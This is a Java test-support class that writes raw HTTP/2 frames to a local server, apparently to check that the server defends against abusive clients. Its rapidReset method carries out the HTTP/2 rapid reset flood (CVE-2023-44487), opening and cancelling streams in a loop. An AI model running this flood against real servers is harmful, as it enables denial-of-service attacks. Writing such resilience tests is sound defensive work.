package tether.testing;

import java.io.DataInputStream;
import java.io.EOFException;
import java.io.IOException;
import java.io.OutputStream;
import java.net.Socket;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.concurrent.atomic.AtomicLong;

/**
 * An HTTP/2 client that writes raw frames (RFC 9113 §4, §6) over h2c with prior knowledge, to behave as no real
 * client would: reset streams as fast as it opens them, or send a header block that never ends. A reader thread
 * answers SETTINGS, counts response HEADERS and notes a GOAWAY and the close.
 */
public final class RawH2 implements AutoCloseable {

  public static final int HEADERS = 0x1;
  public static final int RST_STREAM = 0x3;
  public static final int SETTINGS = 0x4;
  public static final int GOAWAY = 0x7;
  public static final int CONTINUATION = 0x9;
  public static final long ENHANCE_YOUR_CALM = 0xb;
  public static final long CANCEL = 0x8;

  private static final byte[] PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII);

  private final Socket socket;
  private final OutputStream out;
  private final AtomicLong goAwayCode = new AtomicLong(-1);
  private final AtomicInteger responses = new AtomicInteger();
  private final CountDownLatch closed = new CountDownLatch(1);
  private volatile String goAwayDebug;
  private boolean settingsAcked;
  private final CountDownLatch settled = new CountDownLatch(1);

  public RawH2(int port) throws IOException {
    socket = new Socket("127.0.0.1", port);
    socket.setTcpNoDelay(true);
    out = socket.getOutputStream();
    out.write(PREFACE);
    frame(SETTINGS, 0, 0, new byte[0]);
    Thread reader = new Thread(this::read, "raw-h2-reader");
    reader.setDaemon(true);
    reader.start();
  }

  /** A header block for {@code GET /} (HPACK: static table indexes, :authority as a literal). */
  public static byte[] get(String authority) {
    byte[] a = authority.getBytes(StandardCharsets.US_ASCII);
    ByteBuffer b = ByteBuffer.allocate(5 + a.length);
    b.put((byte) 0x82).put((byte) 0x86).put((byte) 0x84); // :method GET, :scheme http, :path /
    b.put((byte) 0x01).put((byte) a.length).put(a); // :authority, literal without indexing
    return b.array();
  }

  public synchronized void frame(int type, int flags, int stream, byte[] payload) throws IOException {
    byte[] head = {(byte) (payload.length >>> 16), (byte) (payload.length >>> 8), (byte) payload.length, (byte) type,
        (byte) flags, (byte) (stream >>> 24), (byte) (stream >>> 16), (byte) (stream >>> 8), (byte) stream};
    out.write(head);
    out.write(payload);
  }

  public void flush() throws IOException {
    synchronized (this) {
      out.flush();
    }
  }

  /** HEADERS with END_HEADERS (0x4), and END_STREAM (0x1) when {@code end}. */
  public void headers(int stream, byte[] block, boolean end) throws IOException {
    frame(HEADERS, 0x4 | (end ? 0x1 : 0), stream, block);
  }

  public void reset(int stream, long code) throws IOException {
    frame(RST_STREAM, 0, stream, ByteBuffer.allocate(4).putInt((int) code).array());
  }

  /**
   * HTTP/2 rapid reset (CVE-2023-44487): {@code count} streams from {@code stream} on (odd ids), each opened with
   * {@code block} and cancelled at once, flushed every 50. A connection the server closes meanwhile ends the flood.
   */
  public void rapidReset(int stream, byte[] block, int count) {
    try {
      for (int i = 0; i < count; i++, stream += 2) {
        headers(stream, block, true);
        reset(stream, CANCEL);
        if (i % 50 == 0) {
          flush();
        }
      }
      flush();
    } catch (IOException e) {
      // closed under us: what the flood is for
    }
  }

  private void read() {
    try (DataInputStream in = new DataInputStream(socket.getInputStream())) {
      while (true) {
        int length = (in.readUnsignedByte() << 16) | (in.readUnsignedByte() << 8) | in.readUnsignedByte();
        int type = in.readUnsignedByte();
        int flags = in.readUnsignedByte();
        in.readInt();
        byte[] payload = in.readNBytes(length);
        if (payload.length < length) {
          throw new EOFException();
        }
        if (type == SETTINGS && (flags & 0x1) == 0 && !settingsAcked) {
          settingsAcked = true; // the server's first SETTINGS only: later ones would land inside a test's header block
          frame(SETTINGS, 0x1, 0, new byte[0]);
          flush();
          settled.countDown();
        } else if (type == GOAWAY) {
          goAwayCode.set(ByteBuffer.wrap(payload, 4, 4).getInt() & 0xffffffffL);
          goAwayDebug = new String(payload, 8, payload.length - 8, StandardCharsets.UTF_8);
        } else if (type == HEADERS) {
          responses.incrementAndGet();
        }
      }
    } catch (IOException e) {
      closed.countDown();
    }
  }

  /** Waits until the server's SETTINGS are acknowledged. */
  public boolean awaitSettings(long millis) throws InterruptedException {
    return settled.await(millis, TimeUnit.MILLISECONDS);
  }

  /** The GOAWAY error code received, or -1. */
  public long goAway() {
    return goAwayCode.get();
  }

  /** The GOAWAY's debug data (Netty puts its reason there), or null. */
  public String goAwayDebug() {
    return goAwayDebug;
  }

  public int responses() {
    return responses.get();
  }

  /** Waits for the server to close the connection. */
  public boolean awaitClose(long millis) throws InterruptedException {
    return closed.await(millis, TimeUnit.MILLISECONDS);
  }

  @Override
  public void close() throws IOException {
    socket.close();
  }
}
